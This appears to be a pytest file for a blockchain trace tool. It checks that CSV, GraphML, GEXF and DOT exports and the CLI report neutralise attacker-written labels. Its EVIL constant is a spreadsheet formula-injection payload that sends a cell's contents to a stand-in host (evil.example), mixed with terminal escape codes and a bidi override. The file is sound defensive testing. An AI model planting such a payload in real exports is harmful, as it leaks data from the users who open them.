"""Exports of a trace whose labels were written by an attacker: CSV cells cannot start a formula
(OWASP prefix), GraphML and GEXF stay valid XML (parsed here), DOT and CSV carry no raw control
characters, and the CLI report prints no terminal escape sequences."""

from __future__ import annotations

import asyncio
import csv
import io
import os
import re
import sys
import xml.etree.ElementTree as ET
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest
import pytest_asyncio

from tests.api_support import Api, running_api
from tracer.api.context import Settings
from tracer.chains.evm import EvmChain
from tracer.devchain.scenario import Scenario
from tracer.domain.labels import Label
from tracer.labels.vocab import normalize_category
from tracer.store import labels as label_store
from tracer.store.db import Database
from tracer.textsafe import csv_cell, terminal_safe

ASYNC = pytest.mark.asyncio(loop_scope="session")
ROOT = Path(__file__).resolve().parents[2]
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"open")\x07\x1b[31m\x0bred\x1b[0m\u202e'
CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")  # all but TAB and LF


@pytest_asyncio.fixture(scope="module", loop_scope="session")
async def devchain_url(small_scenario: Scenario, devchain_factory: Any) -> str:
    return str((await devchain_factory(small_scenario)).url)


@pytest_asyncio.fixture(scope="module", loop_scope="session")
async def api(db: Database, devchain_url: str, small_scenario: Scenario) -> AsyncIterator[Api]:
    # Every service of the scenario carries an attacker's entity name.
    labels = []
    for i, lb in enumerate(small_scenario.labels):
        category, _ = normalize_category(lb.category)
        labels.append(Label(chain=small_scenario.chain, address=lb.address,
                                        entity=("+" if i % 2 else "") + EVIL + lb.entity, category=category,
                                        source="scenario", confidence=1.0))
    async with db.pool.acquire() as conn:
        await label_store.upsert_labels(conn, labels)
    client = EvmChain(devchain_url, chain=small_scenario.chain, expected_chain_id=small_scenario.chain_id)
    await client.connect()
    try:
        async with running_api(db, {small_scenario.chain: client}, Settings(workers=2)) as a:
            yield a
    finally:
        await client.close()


def test_csv_cell_and_terminal_rules() -> None:
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert csv_cell(start + "1+1").startswith("'")
    assert csv_cell("Binance") == "Binance" and csv_cell(-3) == -3
    assert csv_cell("a\x07b") == "a\\x07b"
    assert terminal_safe("a\x1b[31mb\u202ec\nd\x07") == "a[31mbc\nd"


@ASYNC
async def test_exports_are_safe_for_spreadsheets_and_xml(api: Api, small_scenario: Scenario) -> None:
    trace = await api.run_trace({"chain": small_scenario.chain, "seeds": small_scenario.seeds})
    tid = trace["id"]
    seen_evil = False
    for table in ("edges", "nodes"):
        _, text, _ = await api.call("GET", f"/v1/traces/{tid}/graph?format=csv&table={table}", expect=200)
        assert not CONTROL.search(text)
        rows = list(csv.reader(io.StringIO(text)))
        for row in rows[1:]:
            for cell in row:
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (table, cell)
                seen_evil |= cell.startswith("'=HYPERLINK") or cell.startswith("'+=HYPERLINK")
    assert seen_evil, "the trace reached no labelled service: the test would prove nothing"
    for fmt in ("graphml", "gexf"):
        _, text, _ = await api.call("GET", f"/v1/traces/{tid}/graph?format={fmt}", expect=200)
        root = ET.fromstring(text.encode())  # raises on a control character
        assert any("HYPERLINK" in (el.text or "") or "HYPERLINK" in " ".join(el.attrib.values())
                   for el in root.iter()), fmt
    _, text, _ = await api.call("GET", f"/v1/traces/{tid}/graph?format=dot", expect=200)
    assert "HYPERLINK" in text and not CONTROL.search(text)


@ASYNC
async def test_cli_report_prints_no_escape_sequences(db: Database, devchain_url: str,
                                                     small_scenario: Scenario) -> None:
    env = dict(os.environ, TRACER_LOG_LEVEL="WARNING")
    proc = await asyncio.create_subprocess_exec(
        sys.executable, "-m", "tracer.cli", "trace", *small_scenario.seeds, "--rpc", devchain_url,
        "--database-url", db.url, "--workers", "2", cwd=ROOT, env=env,
        stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.PIPE)
    out, err = await asyncio.wait_for(proc.communicate(), 240)
    assert proc.returncode == 0, err.decode()[-2000:]
    text = out.decode()
    assert "HYPERLINK" in text, text[:2000]
    assert "\x1b" not in text and "\x07" not in text and "\u202e" not in text
